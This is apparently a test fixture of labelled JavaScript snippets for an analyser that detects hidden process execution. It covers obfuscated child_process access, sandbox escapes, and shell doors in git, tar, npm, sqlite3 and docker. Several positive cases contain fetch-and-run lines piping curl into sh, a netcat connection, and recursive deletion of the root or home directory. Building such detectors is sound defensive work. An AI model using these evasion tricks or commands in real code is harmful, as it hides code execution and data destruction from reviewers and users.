//@ pos exec on the module
const cp = require('child_process');
cp.exec('ls -la', (err, out) => console.log(out));
//@ pos a shell in the constant code of an eval worker
const { Worker } = require('worker_threads');
new Worker("require('child_process').exec('id')", { eval: true });
//@ pos execSync destructured
const { execSync } = require('child_process');
console.log(execSync('id').toString());
//@ pos renamed in destructuring
const { spawn: sp } = require('child_process');
sp('ls', ['-l']);
//@ pos node: prefix and fs-style subpath
const child = require('node:child_process');
child.spawnSync('id', ['-u']);
//@ pos module name built by concatenation
const m = require('child_' + 'process');
m.execFileSync('/bin/ls');
//@ pos module name as a template literal
require(`child_process`).fork('./worker.js');
//@ pos module name from escapes
const q = require('\x63hild_\u0070rocess');
q.exec('whoami');
//@ pos ES default import
import cp from 'child_process';
cp.execFile('ls');
//@ pos ES namespace import with node: prefix
import * as cp from 'node:child_process';
cp.spawn('sh');
//@ pos ES named import renamed
import { exec as e } from 'child_process';
e('uptime');
//@ pos dynamic import awaited
const cp = await import('child_process');
cp.exec('id');
//@ pos dynamic import, member of the awaited module
(await import('child_process')).execSync('id');
//@ pos computed member with concatenation
const cp = require('child_process');
cp['ex' + 'ec']('id');
//@ pos computed member reversed string
const cp = require('child_process');
cp['cexe'.split('').reverse().join('')]('id');
//@ pos process.mainModule.require
process.mainModule.require('child_process').exec('id');
//@ pos module.require
module.require('child_process').execSync('id');
//@ pos process.binding spawn_sync
const s = process.binding('spawn_sync');
s.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'] });
//@ pos process._linkedBinding process_wrap
process._linkedBinding('process_wrap');
//@ pos aliased through a variable
const cp = require('child_process');
const run = cp.exec;
run('id');
//@ pos util.promisify(exec)
const util = require('util');
const { exec } = require('child_process');
const execP = util.promisify(exec);
await execP('ls');
//@ pos exec.call
const cp = require('child_process');
cp.exec.call(null, 'id');
//@ pos Reflect.get on the module
const cp = require('child_process');
Reflect.get(cp, 'execSync')('id');
//@ pos through globalThis.process
globalThis.process.mainModule.require('child_process').spawn('id');
//@ pos createRequire
import { createRequire } from 'module';
const req = createRequire(import.meta.url);
req('child_process').exec('id');
//@ pos String.fromCharCode module name
const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
require(name).exec('id');
//@ pos base64 module name
require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id');
//@ pos atob module name
require(atob('Y2hpbGRfcHJvY2Vzcw')).exec('id');
//@ pos [...].join('') module name
require(['child', '_', 'process'].join('')).spawn('ls');
//@ pos spawn sh -c
const { spawn } = require('child_process');
spawn('/bin/sh', ['-c', 'curl http://x | sh']);
//@ pos shell: true
require('child_process').spawn('ls | wc -l', { shell: true });
//@ pos eval of a string that runs a shell (nested analysis)
eval("require('child_process').exec('id')");
//@ pos object destructuring in an assignment
let exec;
({ exec } = require('child_process'));
exec('id');
//@ pos nested destructuring
const { promises: p, constants } = require('fs');
const { execSync: x } = require('child_process');
x('id');
//@ pos exec handed to another function
const cp = require('child_process');
setTimeout(cp.exec, 0, 'id');
//@ pos Function('return this')() reaches process
Function('return process')().mainModule.require('child_process').exec('id');
//@ pos the vm-escape idiom
this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id');
//@ neg a RegExp's exec
const re = /a(b)/;
const m = re.exec('xab');
console.log(m[1]);
//@ neg a database's exec
const db = new Database(':memory:');
db.exec('CREATE TABLE t (x)');
//@ neg a local function named exec
function exec(cmd) { return cmd.length; }
exec('ls');
//@ neg a parameter named spawn shadows nothing global, and names no module
function run(spawn) { return spawn('x'); }
run((s) => s);
//@ neg the words in comments and strings
// child_process.exec('rm -rf /')
const doc = "call require('child_process').exec to run a command";
console.log(doc);
//@ neg a module of the program's own with an exec function
const { exec } = require('./runner');
exec('task');
//@ neg reading input like an online-judge solution
const lines = require('fs').readFileSync(0, 'utf8').trim().split('\n');
const n = parseInt(lines[0], 10);
console.log(lines.slice(1, n + 1).map(Number).reduce((a, b) => a + b, 0));
//@ neg a shadowed require
function load(require) { return require('child_process'); }
load((x) => ({ exec() {} })).exec('id');
//@ neg a method called spawn on another object
const game = { spawn(n) { return n; } };
game.spawn('enemy');
//@ pos exec as a tagged template
require('child_process').execSync`id`;
//@ pos the module in a promise callback
import('child_process').then((cp) => cp.exec('id'));
//@ pos a with statement
with (require('child_process')) { execSync('id'); }
//@ pos a class field and this
class Runner {
  cp = require('child_process');
  run(c) { return this.cp.execSync(c); }
}
//@ pos assigned to this in a constructor
function Job() { this.spawn = require('child_process').spawn; }
Job.prototype.go = function () { this.spawn('ls'); };
//@ pos a function stored in an object
const tools = { run: require('child_process').exec };
tools.run('id');
//@ pos a shorthand property
const { execSync } = require('child_process');
const api = { execSync };
api.execSync('id');
//@ pos a function stored in an array
const fns = [require('child_process').spawnSync];
fns[0]('ls');
//@ pos what a helper function returns
function load() { return require('child_' + 'process'); }
load().exec('id');
//@ pos what an arrow function returns
const get = () => require('child_process');
get().spawn('ls');
//@ pos a default parameter
function f(cp = require('child_process')) { cp.execFileSync('ls'); }
//@ pos a CR ends a line comment
// c
require("child_process").execSync("id");
//@ pos U+2028 ends a line comment
// c require("child_process").execSync("id");
//@ pos U+2029 ends the hashbang line
#!/usr/bin/node require("child_process").execSync("id");
//@ pos a CR ends an HTML-like close comment
-->
require("child_process").execSync("id");
//@ pos <!-- in an expression starts a comment to V8, not a template
x = 1
x <!-- `
require("child_process").execSync("id");
//`
//@ pos escapes in names
require("child_process").\u0065xecSync("id");
//@ pos escapes in a destructured name
const {\u{65}xecSync: e} = require("child_process"); e("id");
//@ neg <!-- comments out the rest of the line
x <!-- require("child_process").execSync("id");
//@ neg U+2028 in a string literal is part of the string
s = "a require('child_process').execSync('id')";
//@ pos child_process merged into globalThis
Object.assign(globalThis, require("child_process"));
//@ pos child_process spread into an object
const t = { ...require("child_process") };
//@ pos a getter returns execSync
const o = { get run() { return require("child_process").execSync; } };
//@ pos with over child_process
with (require("child_process")) { execSync("id"); }
//@ pos require.call
require.call(null, "child_process").execSync("id");
//@ pos process.getBuiltinModule
process.getBuiltinModule("child_process").execSync("id");
//@ neg another module merged
Object.assign({}, require("path"));
//@ neg spread of an ordinary object
const u = { ...{ a: 1 }, b: 2 };
//@ pos process reached through Reflect.construct(Function)
const p = Reflect.construct(Function, ["return process"])();
p.mainModule.require("child_process").execSync("id");
//@ pos child_process through a forEach callback's parameter
[require("child_process")].forEach((cp) => cp.execSync("id"));
//@ pos the global object from a function that returns this
const g = (function () { return this; })();
g.process.mainModule.require("child_process").execSync("id");
//@ pos child_process named by String.raw
require(String.raw`child_process`).execSync("id");
//@ neg forEach over the program's own strings
["a", "b"].forEach((s) => console.log(s.toUpperCase()));
//@ pos a program that is not one of the ordinary developer tools
require('child_process').execFileSync('find', [require('os').homedir(), '-delete']);
//@ pos one arm of a ternary is not an ordinary tool
const { spawnSync: run1 } = require('child_process');
const prog1 = process.env.X ? 'curl' : 'git';
run1(prog1, ['-s', 'http://192.0.2.1/']);
//@ pos a wrapper called once with git and once with sh
const { execFileSync: efs } = require('child_process');
function tryRun(cmd, args) { return efs(cmd, args, { encoding: 'utf8' }); }
tryRun('git', ['--version']);
tryRun('sh', ['-c', 'id']);
//@ pos a wrapper handed on, so its calls are unknown
const { execFileSync: efs2 } = require('child_process');
const wrap = (cmd) => efs2(cmd, []);
['git'].map(wrap);
//@ pos a name bound twice, the second time to another program
const { execFileSync: efs3 } = require('child_process');
let p3 = 'git';
p3 = 'nc';
efs3(p3, ['192.0.2.1', '4444']);
//@ pos the arguments spread
require('child_process').spawnSync(...['sh', ['-c', 'id']]);
//@ pos node -e
require('child_process').spawnSync('node', ['-e', 'require("fs").rmSync("/", {recursive: true})']);
//@ pos node on a script of unknown content
const { spawn: sp4 } = require('child_process');
sp4(process.execPath, ['/tmp/stage2.js'], { detached: true });
//@ pos node with arguments the analysis cannot see
require('child_process').spawn('node', process.argv.slice(2));
//@ pos node with no arguments reads its script from stdin
require('child_process').spawn(process.execPath, [], { stdio: 'pipe' }).stdin.end('process.exit(1)');
//@ pos git -c alias with a shell escape
require('child_process').spawnSync('git', ['-c', 'alias.x=!sh -c id', 'x']);
//@ pos npm exec downloads and runs a package
require('child_process').spawnSync('npm', ['exec', '--yes', 'some-package']);
//@ pos an ordinary tool started through a shell
require('child_process').spawnSync('git', ['log', '$(id)'], { shell: true });
//@ neg git with an argument array
const { spawnSync: s5 } = require('child_process');
s5('git', ['-C', process.cwd(), 'log', '--oneline', '-5'], { encoding: 'utf8' });
//@ neg npm chosen by a ternary
const { spawn: s6 } = require('child_process');
const npm6 = process.platform === 'win32' ? 'npm.cmd' : 'npm';
s6(npm6, ['run', 'build', '--silent'], { stdio: 'inherit' });
//@ neg a wrapper called only with ordinary tools
const { execFileSync: e7 } = require('child_process');
function tryRun7(cmd, args) { return e7(cmd, args, { encoding: 'utf8', timeout: 5000 }); }
tryRun7('git', ['--version']);
tryRun7('df', ['-h', '.']);
//@ neg the node test runner on a file
const { spawnSync: s8 } = require('child_process');
s8(process.execPath, ['--test', '--test-reporter=tap', 'test/a.test.js'], { env: { ...process.env, NODE_ENV: 'test' } });
//@ pos process.execve replaces the program
process.execve('/bin/sh', ['sh', '-c', 'id'], process.env);
//@ pos an ordinary tool with a PATH of the program's own
require('child_process').spawnSync('git', ['status'], { env: { ...process.env, PATH: '/tmp/x:' + process.env.PATH } });
//@ pos an ordinary tool with an environment the analysis cannot read
const env9 = JSON.parse(process.argv[2]);
require('child_process').spawnSync('git', ['status'], { env: env9 });
//@ neg an ordinary tool with the environment extended by a setting
require('child_process').spawnSync('git', ['status'], { env: { ...process.env, NODE_ENV: 'test' } });
//@ neg an ordinary tool with the environment extended by Object.assign
require('child_process').execFileSync('npm', ['test'], { env: Object.assign({}, process.env, { NODE_ENV: 'test' }) });
require('child_process').spawnSync('git', ['status'], { env: Object.assign({ LANG: 'C' }, process.env, {}, { CI: '1' }) });
//@ pos Object.assign sets PATH in a literal
require('child_process').spawnSync('git', ['status'], { env: Object.assign({}, process.env, { PATH: '/tmp/x' }) });
//@ pos Object.assign sets PATH in its target
require('child_process').execFileSync('git', ['status'], { env: Object.assign({ 'PATH': '/tmp/x' }, process.env) });
//@ pos Object.assign with a part the analysis cannot read
const extra10 = JSON.parse(process.argv[2]);
require('child_process').spawnSync('git', ['status'], { env: Object.assign({}, process.env, extra10) });
//@ pos an environment from a call the analysis cannot read
require('child_process').spawnSync('git', ['status'], { env: JSON.parse(process.argv[2]) });
//@ pos Object.assign shadowed by the program's own
const Object = { assign: () => JSON.parse(process.argv[2]) };
require('child_process').spawnSync('git', ['status'], { env: Object.assign({}, process.env) });
//@ neg tar packs a directory
require("child_process").execFileSync("tar", ["-czf", out, "-C", dir, name]);
//@ neg tar extracts an archive
require("child_process").spawnSync("tar", ["-xzf", "a.tgz", "-C", "out"]);
//@ pos tar --checkpoint-action runs a command
require("child_process").spawnSync("tar", ["-cf", "/dev/null", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=sh -c id"]);
//@ pos tar --to-command abbreviated
require("child_process").spawnSync("tar", ["-xf", "a.tar", "--to-com=sh"]);
//@ pos tar -I in a cluster runs a compressor of the caller's choice
require("child_process").execFileSync("tar", ["-cIf", "sh -c id", "x.tar", "."]);
//@ pos tar old-style letters with I
require("child_process").execFileSync("tar", ["cIf", "sh -c id", "x.tar", "."]);
//@ pos tar --use-compress-program split from its value
require("child_process").execFileSync("tar", ["-c", "--use-compress-program", "./x", "-f", "x.tar", "."]);
//@ pos tar --remove-files deletes what it packs
require("child_process").execFileSync("tar", ["-cf", "/dev/null", "--remove-files", require("os").homedir()]);
//@ pos tar -T reads a file list that may hold options
require("child_process").execFileSync("tar", ["-cf", "x.tar", "-T", "list.txt"]);
//@ pos tar --rsh-command
require("child_process").execFileSync("tar", ["-cf", "host:/x.tar", "--rsh-command=/tmp/x", "."]);
//@ pos rsync is not an ordinary tool
require("child_process").execFileSync("rsync", ["-a", "--delete", "empty/", require("os").homedir() + "/"]);
//@ neg npx runs eslint on the changed files
const lintArgs = ['eslint', '--max-warnings=0'];
require("child_process").spawnSync("npx", [...lintArgs, "--", ...files], { stdio: "inherit" });
//@ neg npx prettier
require("child_process").execFileSync("npx", ["prettier", "--check", "."]);
//@ pos npx on any package
require("child_process").execFileSync("npx", ["left-pad-cli", "x"]);
//@ pos npx with a flag first
require("child_process").execFileSync("npx", ["--yes", "some-pkg"]);
//@ pos npx with a flag spread first
require("child_process").execFileSync("npx", [...["-y"], "some-pkg"]);
//@ pos npx -c runs a shell command
const o = ["-c", "curl x | sh"];
require("child_process").spawnSync("npx", [...o]);
//@ pos npx with arguments the analysis cannot read
require("child_process").spawnSync("npx", process.argv.slice(2));
//@ pos require as the module wrapper's arguments[1]
const load = arguments[1];
load('child_process').execSync('id');
//@ pos child_process passed to a function called where it is written
((cp) => cp.execSync('id'))(require('child_process'));
(function (a, b = 1) { a.execFileSync('sh', ['-c', 'id']); })(require('child_process'));
//@ pos util.promisify(exec) is exec
const { promisify } = require('util');
const run = promisify(require('child_process').exec);
run('id');
//@ pos docker with a subcommand that runs a container
const { execFileSync } = require('child_process');
execFileSync('docker', ['run', '--rm', '-v', '/:/host', 'alpine', 'chroot', '/host', 'sh']);
//@ neg a function's own arguments are not the module wrapper's
function pick() {
  return arguments[1]('child_process');
}
//@ neg util.promisify(execFile) of an ordinary tool
const { promisify } = require('util');
const { execFile } = require('child_process');
const run = promisify(execFile);
run('git', ['status', '--short']);
//@ neg docker that only reads
const { execFileSync } = require('child_process');
execFileSync('docker', ['ps', '--format', '{{json .}}']);
//@ neg an IIFE given the global object
(function (root) { root.lib = { version: 1 }; })(this);
//@ neg sqlite3 with a query and migrations on its input
const { execFileSync } = require('child_process');
const body = require('fs').readFileSync('migrations/0001_init.sql', 'utf8');
execFileSync('sqlite3', ['-batch', './app.db'], { input: `BEGIN;\n${body}\nCOMMIT;` });
execFileSync('sqlite3', ['./app.db', 'SELECT count(*) FROM notes']);
//@ pos sqlite3 with a dot-command that runs a program
const { execFileSync } = require('child_process');
execFileSync('sqlite3', [':memory:', '.shell curl -s http://x.example/p | sh']);
//@ pos sqlite3 fed .system on its input
const { execFileSync } = require('child_process');
execFileSync('sqlite3', ['app.db'], { input: 'SELECT 1;\n.system id' });
//@ pos sqlite3 loading an extension through SQL
const { spawnSync } = require('child_process');
spawnSync('sqlite3', [':memory:', "SELECT load_extension('/tmp/x.so')"]);
//@ pos sqlite3 with -cmd
const { spawnSync } = require('child_process');
spawnSync('sqlite3', ['-cmd', '.load /tmp/x', 'app.db']);
//@ pos execSync taken from the module's property descriptors
const d = Object.getOwnPropertyDescriptors(require('child_process'));
d['exec' + 'Sync'].value('id');
//@ pos the shorthand { env } of a copy that sets PATH
const { spawnSync } = require('child_process');
const env = { ...process.env, PATH: '/tmp/bin' };
spawnSync('git', ['status'], { env });
//@ pos the shorthand { env } of a copy whose PATH is set afterwards
const { spawnSync } = require('child_process');
const env = Object.assign({}, process.env);
env.PATH = '/tmp/bin';
spawnSync('git', ['status'], { env });
//@ pos { env } from a value the analysis cannot read
const { spawnSync } = require('child_process');
const env = JSON.parse(process.argv[2]);
spawnSync('git', ['status'], { env });
//@ neg { env: env } and { env } of a copy that keeps PATH
const { spawnSync, execFileSync } = require('child_process');
const env = { ...process.env, CI: '1', NO_COLOR: undefined };
env.FORCE_COLOR = '0';
console.log(Object.keys(env).length);
spawnSync('git', ['status'], { env: env });
execFileSync('npm', ['test'], { env, stdio: 'inherit' });
//@ pos { env } of a parameter one of whose calls sets PATH
const { spawn } = require('child_process');
function npmTest(cwd, env) {
  return spawn('npm', ['test'], { cwd, env });
}
npmTest('.', { ...process.env, CI: '1' });
npmTest('..', { ...process.env, PATH: '/tmp/bin' });
//@ pos { env } changed by a helper that sets PATH
const { spawn } = require('child_process');
function tweak(e) {
  e.PATH = '/tmp/bin';
}
const env = { ...process.env };
tweak(env);
spawn('npm', ['test'], { env });
//@ pos { env } handed to a callback, whose arguments are out of sight
const { spawnSync } = require('child_process');
function run(cwd, env) {
  spawnSync('git', ['status'], { cwd, env });
}
['a', 'b'].forEach(run);
//@ neg { env } made by helpers, passed through a parameter
const { spawn, execFile } = require('child_process');
function childEnv(extra) {
  return { ...process.env, CI: 'true', FORCE_COLOR: '0', ...extra };
}
function npmEnv() {
  const env = structuredClone(process.env);
  env.npm_config_fund = 'false';
  env.GIT_TERMINAL_PROMPT = '0';
  delete env.NODE_OPTIONS;
  return env;
}
function npmTest(cwd, env) {
  return spawn('npm', ['test', '--silent'], { cwd, env });
}
(async () => {
  for (const pkg of ['a', 'b']) {
    const env = childEnv({ NODE_V8_COVERAGE: pkg + '/coverage' });
    await npmTest(pkg, env);
  }
  const env = npmEnv();
  execFile('npm', ['outdated', '--json'], { env }, () => {});
})();
//@ pos the module kept in a Map built from an array of pairs
const m = new Map([['k', require('child_process')]]);
m.get('k').execSync('id');
//@ pos a JSFuck-style chain of subscripts from [].filter.constructor
[]['filter']['constructor']('return this')()['process']['mainModule']['require']('child_process')['execSync']('id');
//@ pos { env: f() } where f returns a copy that sets PATH
const { spawn } = require('child_process');
function childEnv() {
  return { ...process.env, PATH: '/tmp/bin' };
}
spawn('npm', ['test'], { env: childEnv() });
//@ neg { env: f() } where f returns a copy that keeps PATH
const { spawn } = require('child_process');
const childEnv = () => ({ ...process.env, CI: 'true', FORCE_COLOR: '0' });
spawn('npm', ['test'], { env: childEnv() });
//@ pos git's arguments in a name, with a -c alias that runs the shell
const { spawnSync } = require('child_process');
const args = ['-c', 'alias.x=!sh -c id', 'x'];
spawnSync('git', args);
//@ pos node -e spread into the arguments
const { spawnSync } = require('child_process');
const extra = ['-e', 'process.exit(0)'];
spawnSync('node', ['--no-warnings', ...extra]);
//@ pos a program named by a destructured loop variable, one of them a shell
const { spawnSync } = require('child_process');
for (const [cmd, args] of [['git', ['status']], ['sh', ['-c', 'id']]]) spawnSync(cmd, args);
//@ neg programs named by a destructured loop variable over ordinary tools
const { spawnSync } = require('child_process');
const steps = [
  { cmd: 'git', args: ['status', '--short'] },
  { cmd: 'npm', args: ['test', '--silent'] },
];
for (const { cmd, args } of steps) spawnSync(cmd, args, { stdio: 'inherit' });
//@ neg a git wrapper whose arguments are ordinary
const { execFileSync } = require('child_process');
function git(args) {
  return execFileSync('git', args, { encoding: 'utf8' });
}
git(['log', '--pretty=format:%h%x09%s', 'a..b']);
git(['status', '--short']);
//@ neg git and tar flags that only look like other tools' doors (-p, -u, -c)
const { execFileSync } = require('child_process');
execFileSync('git', ['log', '-p', '-1']);
execFileSync('git', ['push', '-u', 'origin', 'main']);
execFileSync('tar', ['-c', '-f', '/tmp/out.tar', 'dist']);
execFileSync('npm', ['init', '-y']);
//@ pos git submodule foreach runs a command
const { execFileSync } = require('child_process');
execFileSync('git', ['submodule', 'foreach', 'sh -c id']);
//@ pos npm exec with its arguments in a name
const { execFileSync } = require('child_process');
const args = ['exec', '--yes', 'some-package'];
execFileSync('npm', args);
//@ neg file tools without a door to code, by argument list
const { execFileSync } = require('child_process');
execFileSync('unzip', ['-q', 'fixtures.zip', '-d', 'out']);
execFileSync('sha256sum', ['dist/app.tar.gz']);
execFileSync('gzip', ['-9', 'report.csv']);
//@ pos import() then a destructured callback parameter
import('child_process').then(({ execSync: run }) => run('id'));
//@ neg import() of fs then a destructured callback parameter
import('fs').then(({ readFileSync }) => console.log(readFileSync('a.txt', 'utf8')));
//@ pos a Proxy trap returns execSync from one arm of a conditional
const api = new Proxy({}, { get: (t, p) => (p === 'run' ? require('child_process').execSync : t[p]) });
api.run('id');
//@ neg a getter returns one of two loggers from a conditional
const log = { get out() { return process.env.QUIET ? () => {} : console.log; } };
log.out('ready');
//@ pos a helper nested in a function sets PATH in the environment it returns
const { spawnSync } = require('child_process');
function main() {
  function env() { return { ...process.env, PATH: '/tmp/.bin' }; }
  spawnSync('npm', ['test'], { env: env() });
}
main();
//@ pos the helper called is not the nested one that keeps PATH (it is out of its block)
const { spawnSync } = require('child_process');
function setup() {
  function env() { return { ...process.env, CI: '1' }; }
  return env;
}
globalThis.env = () => ({ PATH: '/tmp/.bin' });
setup();
spawnSync('npm', ['test'], { env: env() });
//@ neg a helper nested in a function returns the environment with PATH kept
const { spawnSync } = require('child_process');
function main() {
  function env(extra) { return { ...process.env, CI: '1', ...extra }; }
  spawnSync('npm', ['test'], { env: env({ STEP: 'test' }) });
}
main();
//@ pos npx of a package in a list a name holds
const { spawnSync } = require('child_process');
const args = ['cowsay', ...process.argv.slice(2)];
spawnSync('npx', args);
//@ neg npx eslint with its arguments in a list a name holds
const { spawnSync } = require('child_process');
const args = ['eslint', '--cache', ...process.argv.slice(2)];
spawnSync('npx', args);
//@ pos the Docker Engine API over its socket
const http = require('http');
http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' });
//@ pos npm install of a tarball URL (its install scripts run)
const { execFileSync } = require('child_process');
execFileSync('npm', ['install', 'https://example.org/pkg-1.0.0.tgz']);
//@ pos the Docker Engine API through net.createConnection
const net = require('net');
net.createConnection({ path: '/run/docker.sock' }).end('GET /containers/json HTTP/1.1\r\n\r\n');
//@ neg the Docker socket only tested for (no connection)
const fs = require('fs');
console.log(fs.existsSync('/var/run/docker.sock') ? 'docker' : 'no docker');
//@ neg an options object whose path is the program's own socket
const net = require('net');
net.createConnection({ path: '/tmp/app.sock' });
//@ neg a request over the program's own unix socket
const http = require('http');
http.request({ socketPath: '/tmp/app.sock', path: '/health' });
//@ neg npm install of the project's dependencies
const { execFileSync } = require('child_process');
execFileSync('npm', ['install', '--no-audit']);
//@ pos fork of its own file with options held in a name (execPath: /bin/sh)
const { fork } = require('child_process');
const opts = { execPath: '/bin/sh', execArgv: [] };
fork(__filename, opts);
//@ pos fork of its own file with execArgv (node -e)
require('child_process').fork(__filename, [], { execArgv: ['-e', 'x()'] });
//@ pos fork of a __filename the program binds itself
var __filename = '/tmp/x.js';
require('child_process').fork(__filename, ['child']);
//@ pos docker run with the host's root mounted, its arguments in a name
const { execFileSync } = require('child_process');
const args = ['run', '--rm', '-v', '/:/host', 'alpine', 'chroot', '/host', 'sh'];
execFileSync('docker', args);
//@ pos npm pkg set of a script, which npm run then runs in sh
require('child_process').execFileSync('npm', ['pkg', 'set', 'scripts.x=curl -s http://e.example | sh']);
//@ pos net.connect to the Docker socket held in a name
const SOCK = '/var/run/docker.sock';
require('net').connect(SOCK);
//@ pos the Docker socket as a helper's parameter given to socketPath (a POST)
const settings = { engine: '/run/docker.sock' };
function post(sock, path) { return require('http').request({ socketPath: sock, path, method: 'POST' }).end(); }
post(settings.engine, '/containers/create');
//@ neg node on a test file of a listed directory (path.join(dir, name)), as require of one
const { spawnSync: s11 } = require('child_process');
for (const f of require('fs').readdirSync('test')) s11(process.execPath, [require('path').join('test', f)]);
//@ pos node on a file joined under the temporary directory
const { spawnSync: s12 } = require('child_process');
s12('node', [require('path').join(require('os').tmpdir(), process.argv[2])]);
//@ pos node on a file joined under a mkdtemp directory
const { execFileSync: s13 } = require('child_process');
const scratch13 = require('fs').mkdtempSync('/tmp/run-');
s13(process.execPath, [require('path').resolve(scratch13, 'main.js')]);
//@ pos git -c settings built by flatMap over Object.entries
const gitcfg14 = { 'core.fsmonitor': 'sh -c id' };
require('child_process').execFileSync('git', [...Object.entries(gitcfg14).flatMap(([k, v]) => ['-c', `${k}=${v}`]), 'status']);
//@ neg git arguments built by flatMap of paths
const files15 = ['a.txt', 'b.txt'];
require('child_process').execFileSync('git', ['add', ...files15.flatMap((f) => ['--', f])]);
//@ pos the Docker socket set as socketPath after the options object is made
const o16 = {}; o16.path = '/containers/json';
o16.socketPath = '/var/run/docker.sock';
require('http').request(o16).end();
//@ pos the Docker socket set by a computed key from a joined name
const o17 = { method: 'GET' };
o17['socketPath'] = ['', 'run', 'docker.sock'].join('/');
require('http').get(o17);
//@ neg a socketPath of the program's own service set after the object is made
const o18 = {}; o18.socketPath = '/run/myapp/api.sock';
require('http').get(o18);
//@ pos git -c pushed into the argument list after it is made
const args19 = ['status'];
args19.push('-c', 'core.pager=sh -c id');
require('child_process').execFileSync('git', args19);
//@ pos npm --script-shell pushed into the argument list
const args20 = ['install'];
args20.push('--script-shell=/tmp/x.sh');
require('child_process').spawnSync('npm', args20);
//@ neg git arguments pushed into the list (paths)
const args21 = ['add'];
args21.push('--', 'README.md');
require('child_process').execFileSync('git', args21);
//@ pos TAR_OPTIONS in a child's environment (--checkpoint-action=exec)
require('child_process').execFileSync('tar', ['-cf', 'a.tar', 'src'], { env: { ...process.env, TAR_OPTIONS: '--checkpoint=1 --checkpoint-action=exec=id' } });
//@ pos EDITOR for git commit
require('child_process').execFileSync('git', ['commit'], { env: { ...process.env, EDITOR: 'sh -c id' } });
//@ pos ImageMagick given a file name that starts with |
require('child_process').execFileSync('convert', ['|sh -c id', 'out.png']);
//@ pos git --upload-pack built by a template over a list
const cp = require('child_process');
for (const a of ['upload', 'receive']) cp.execFileSync('git', ['clone', `--${a}-pack=touch /tmp/x`, 'repo']);
//@ neg ImageMagick resizing a picture
require('child_process').execFileSync('convert', ['in.png', '-resize', '64x64', 'out.png']);
//@ neg npx of a bundler through a helper, its list a ternary
const { spawnSync } = require('child_process'), fs = require('fs');
function step(cmd, args) { return spawnSync(cmd, args, { stdio: 'inherit' }); }
step('npx', fs.existsSync('webpack.config.js') ? ['webpack'] : ['vite', 'build']);
//@ pos git -c of an entries pair built by flatMap, then concat
const cp = require('child_process');
const cfg = { 'alias.st': '!sh -c id', 'user.name': 'bot' };
cp.execFileSync('git', Object.entries(cfg).flatMap(([k, v]) => ['-c', `${k}=${v}`]).concat(['st']));
//@ pos shell: true in a constant, shell code in execFile's arguments
const opts = { shell: true };
require('child_process').execFile('git', ['status', '&& curl -s https://203.0.113.9/i | sh'], opts);
//@ pos shell option from a function, shell code in the arguments
function o() { return { stdio: 'inherit', shell: '/bin/sh' }; }
require('child_process').spawnSync('npm', ['test', ';', 'rm', '-rf', '/'], o());
//@ pos a spread with shell: true in a name, a command that is code
const base = { stdio: 'inherit' };
const sh = { ...base, shell: true };
require('child_process').spawn('git status; curl -s https://203.0.113.9/i | sh', sh);
//@ neg shell: true in a constant, plain arguments
const opts = { shell: true, stdio: 'inherit' };
require('child_process').spawnSync('npm', ['run', 'build'], opts);
//@ pos git rebase -x runs a command after each commit
require('child_process').execFileSync('git', ['rebase', '-x', 'curl -s https://203.0.113.9/i | sh', 'main']);
//@ pos git difftool --extcmd in a spread list
const viewer = ['--extcmd', 'sh -c "id"'];
require('child_process').spawnSync('git', ['difftool', '-y', ...viewer]);
//@ pos git grep --open-files-in-pager= a command
require('child_process').execFileSync('git', ['grep', '--open-files-in-pager=sh -c id', 'TODO']);
//@ neg git cherry-pick -x and clean -fdx name no command
const { execFileSync } = require('child_process');
execFileSync('git', ['cherry-pick', '-x', 'abc123']);
execFileSync('git', ['clean', '-fdx']);
//@ pos a class that extends ChildProcess
const { ChildProcess } = require('child_process');
class T extends ChildProcess { go() { return super.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], stdio: [] }); } }
new T().go();
//@ neg the Docker socket read with http.get only
require('http').get({ socketPath: '/var/run/docker.sock', path: '/containers/json' }, (r) => r.pipe(process.stdout));
//@ pos zx's $ with a pipe into sh
import { $ } from 'zx';
await $`curl -fsSL ${process.argv[2]} | sh`;
//@ neg zx's $ of git, a substitution as one word
import { $ } from 'zx';
await $`git tag -a v${process.argv[2]} -m ${'release'}`;
//@ pos shelljs exec of a command received
require('shelljs').exec(process.argv[2]);
//@ pos execa's execaCommand
const { execaCommand } = require('execa');
execaCommand('bash -c id');
//@ neg tar -I with a known compressor
require('child_process').spawnSync('tar', ['-x', '-I', 'zstd -d', '-f', 'a.tar.zst']);
//@ pos tar -I with a downloaded program
require('child_process').spawnSync('tar', ['-x', '-I', '/tmp/.unzstd', '-f', 'a.tar.zst']);
//@ pos http.get with method POST on the Docker socket
require('http').get({ socketPath: '/var/run/docker.sock', path: '/containers/x/start', method: 'POST' });
//@ pos the Docker socket connected on a new net.Socket()
const s = new (require('net').Socket)();
s.connect('/var/run/docker.sock');
//@ neg http.get with method GET on the Docker socket
require('http').get({ socketPath: '/var/run/docker.sock', path: '/containers/json', method: 'GET' });
//@ pos npm create of a package from the registry
require('child_process').execFileSync('npm', ['create', 'vite-kit@latest', '--yes']);
//@ pos npm init of a scoped initializer, the arguments in a name
const initArgs = ['init', '@acme/service', '-y'];
require('child_process').spawnSync('npm', initArgs);
//@ neg npm init -y, then the project's own create script
const { execFileSync } = require('child_process');
execFileSync('npm', ['init', '-y']);
execFileSync('npm', ['run', 'create']);
//@ pos git bisect run of a command
require('child_process').execFileSync('git', ['bisect', 'run', './probe.sh']);
//@ neg git bisect log
require('child_process').execFileSync('git', ['bisect', 'log']);
//@ pos git's configuration through GIT_CONFIG_COUNT in a spread name
const extra = { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.sshCommand', GIT_CONFIG_VALUE_0: 'sh -c id #' };
require('child_process').spawnSync('git', ['ls-remote', 'ssh://h/r'], { env: { ...process.env, ...extra } });
//@ neg the commit's author through git's environment, CI switches in a name
const ci = { CI: 'true', GIT_TERMINAL_PROMPT: '0' };
require('child_process').spawnSync('git', ['commit', '-m', 'x'], {
  env: { ...process.env, ...ci, GIT_AUTHOR_NAME: 'Bot', GIT_COMMITTER_EMAIL: 'bot@example.com' },
});
//@ pos node-pty's spawn: a program on a pseudo-terminal
const pty = require('node-pty');
pty.spawn('bash', [], { cols: 80, rows: 24 });
//@ pos node-pty's spawn destructured under another name
const { spawn: term } = require('node-pty');
term('sh', ['-c', 'id']);
//@ neg a spawn method of another module is not node-pty's
